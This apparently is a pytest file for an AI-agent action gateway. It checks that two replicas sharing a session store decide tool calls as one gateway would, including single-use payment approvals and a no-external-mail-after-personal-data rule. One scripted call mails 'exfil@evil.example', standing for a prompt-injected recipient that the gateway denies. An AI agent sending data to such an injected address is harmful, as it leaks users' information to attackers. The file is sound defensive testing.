"""Two `aarmc gateway` processes serving one session through a shared session store (issue 7).

Each gateway is a real process (`python -m aarmc.cli_gateway gateway`) in
front of its own copy of the toolbox MCP server, with its own receipt log;
they share the session store (SQLite, or a real redis-server) and the
approvals database. A scripted MCP client per gateway sends the calls of one
agent alternately through the two, and the decisions must be exactly those
of the same calls through a single gateway.
"""

from __future__ import annotations

import itertools
import re
import sys
from pathlib import Path
from typing import Any

import anyio
import pytest

from aarm_runtime import keys
from aarm_runtime.verify import read_verified
from test_gateway import _cli, _decision, _stdio_session, _text, env  # noqa: F401 - `env` is a fixture

ROOT = Path(__file__).resolve().parents[1]
TOOLBOX = ROOT / "tests" / "mcp_servers" / "toolbox.py"
_PREFIXES = itertools.count()
_IDS = re.compile(r"\bd[0-9a-f]{8,}\b")


def _args(env: dict[str, Path], run: Path, name: str, store: str) -> list[str]:
    return [
        "--policy", str(env["policy"]), "--key", str(env["author_pub"]),
        "--receipt-key", str(env["gateway_key"]), "--receipts", str(run / f"{name}.cbor"),
        "--approvals", str(run / "approvals.db"),
        "--identity", str(env["token"]), "--identity-issuer", f"test-idp={env['idp_pub']}",
        "--intent", "mail the notes to bob@corp.example",
        "--session-store", store, "--session-id", "shared-session",
        "--", sys.executable, str(TOOLBOX), "--journal", str(run / f"{name}-journal.jsonl"),
    ]


async def _script(clients: list[Any], run: Path) -> list[tuple]:
    """The agent's calls, the i-th through clients[i % n]; returns what each was decided."""
    seen: list[tuple] = []

    def note(result: Any) -> dict[str, Any]:
        d = _decision(result)
        seen.append((d["status"], d.get("reason"), tuple(d.get("rules", ())), _IDS.sub("<id>", _text(result)).replace(str(run), "<run>")))
        return d

    turn = itertools.count()

    def nxt() -> Any:
        return clients[next(turn) % len(clients)]

    note(await nxt().call_tool("mail.read", {}))
    # The injected recipient is in the output the other replica recorded.
    note(await nxt().call_tool("mail.send", {"to": "exfil@evil.example", "subject": "list", "body": "x"}))
    note(await nxt().call_tool("mail.send", {"to": "bob@corp.example", "subject": "notes", "body": "hi"}))
    big = {"recipient": "Acme", "amount": 5000, "note": "INV-7"}
    pending = note(await nxt().call_tool("bank.pay", big))
    did = pending["decision_id"]
    approved = _cli("approve", did, "--approvals", str(run / "approvals.db"), "--approver", "carol")
    assert approved.returncode == 0, approved.stderr
    # Redeemed through the other replica, once.
    note(await nxt().call_tool("bank.pay", {**big, "_aarm_approval": did}))
    note(await nxt().call_tool("bank.pay", {**big, "_aarm_approval": did}))
    # Personal data was read in this session (by the first replica): no mail outside.
    note(await nxt().call_tool("mail.send", {"to": "x@partner.example", "subject": "s", "body": "b"}))
    note(await nxt().call_tool("db.query", {"sql": "select 1", "limit": 50}))
    return seen


def _store(kind: str, run: Path, request: Any) -> str:
    if kind == "sqlite":
        return f"sqlite:{run / 'sessions.db'}"
    return f"{request.getfixturevalue('redis_url')}#aarm-gw-{next(_PREFIXES)}-{run.name}:"


@pytest.mark.parametrize("kind", ["sqlite", "redis"])
def test_two_gateways_alternating_on_one_session_decide_as_one(env, tmp_path, kind, request):  # noqa: F811
    results: dict[str, list[tuple]] = {}

    async def one() -> None:
        run = tmp_path / "one"
        run.mkdir()
        async with _stdio_session(_args(env, run, "solo", _store(kind, run, request))) as s:
            results["one"] = await _script([s], run)

    async def two() -> None:
        run = tmp_path / "two"
        run.mkdir()
        store = _store(kind, run, request)
        async with _stdio_session(_args(env, run, "a", store)) as a:
            # The first call opens the shared session on gateway a; gateway b joins it.
            async with _stdio_session(_args(env, run, "b", store)) as b:
                results["two"] = await _script([a, b], run)

    anyio.run(one)
    anyio.run(two)
    assert results["two"] == results["one"]
    statuses = [s for s, *_ in results["one"]]
    assert statuses == ["allow", "deny", "allow", "pending", "allow", "deny", "deny", "modify"], results["one"]
    assert results["one"][1][1] == "rule" and results["one"][1][2] == ("injected-recipient",)
    assert results["one"][5][1] == "approval-used"
    assert results["one"][6][2] == ("no-external-after-pii",)
    # Each gateway's own receipt log verifies; the joining one says it joined, and carried the step-up it
    # redeemed over from the other replica's log before recording what followed.
    pub = keys.load_verify_key(env["gateway_pub"])
    notes = []
    for name in ("a", "b"):
        got = read_verified(tmp_path / "two" / f"{name}.cbor", [pub])
        assert got.verdict.status.value == "COMPLETE", got.verdict.describe()
        notes += [r.record.note or "" for r in got.receipts]
    assert any("joined" in n for n in notes)
    assert any("carried over" in n for n in notes)
    # The tools ran where they were allowed: each server's journal has the calls its gateway let through.
    journals = [(tmp_path / "two" / f"{n}-journal.jsonl") for n in ("a", "b")]
    ran = sum(len(p.read_text().splitlines()) for p in journals if p.exists())
    assert ran == statuses.count("allow") + statuses.count("modify")
